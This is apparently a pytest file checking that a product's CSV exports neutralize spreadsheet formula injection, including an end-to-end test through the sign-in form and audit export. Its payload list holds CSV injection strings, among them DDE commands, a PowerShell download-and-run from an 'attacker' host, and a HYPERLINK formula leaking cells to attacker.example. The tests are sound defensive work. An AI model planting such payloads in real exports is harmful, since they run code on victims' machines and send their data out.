"""CSV exports never carry a live formula (issue 9, M2; OWASP "CSV Injection").

Every CSV the product writes comes from core.exporting.to_csv. An unauthenticated visitor can
put any text into the audit log through the sign-in form's staff number, which then lands in
the auditor's export: that path is tested end to end, the others through the helper.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from bingan.core.exporting import neutralize_cell, to_csv
from webutil import events, login, make_staff, web_client

# OWASP's CSV injection payloads and the classic DDE ones
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
    "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"点此查看")',
    "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0', "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "=IMPORTXML(CONCAT(\"http://x/?\", A1), \"//a\")", "＝1+1", "＠SUM(1,1)",
]
HARMLESS = ["ZY202401000001", "张三", "阑尾炎（K35.8）", "a=b", "1-2", "", "'already quoted"]


def _cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralized(payload):
    assert neutralize_cell(payload) == "'" + payload
    rows = _cells(to_csv([payload, "列"], [[payload, 5], [1, payload]], tz=dt.timezone.utc))
    assert rows == [["'" + payload, "列"], ["'" + payload, "5"], ["1", "'" + payload]]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＠"))


def test_other_values_pass_unchanged():
    for v in HARMLESS:
        assert neutralize_cell(v) == v
    assert neutralize_cell(-5) == -5 and neutralize_cell(2.5) == 2.5 and neutralize_cell(None) is None
    assert _cells(to_csv(["号"], [[-5], ["张三"]], tz=dt.timezone.utc)) == [["号"], ["-5"], ["张三"]]


def test_a_staff_number_typed_at_sign_in_reaches_the_audit_export_inert(rt):
    make_staff(rt, "S0001", ["auditor"])
    evil = "=cmd|' /C calc'!A0"
    with web_client(rt) as c:
        r = login(c, evil, "whatever-password")
        assert r.status_code == 401
        assert [e.staff_no for e in events(rt, "login")] == [evil]  # recorded as typed
        assert login(c, "S0001").status_code in (302, 303)
        r = c.get("/audit/export", params={"format": "csv"})
        assert r.status_code == 200
    rows = _cells(r.content)
    hits = [cell for row in rows for cell in row if evil in cell]
    assert hits and all(cell == "'" + evil for cell in hits)
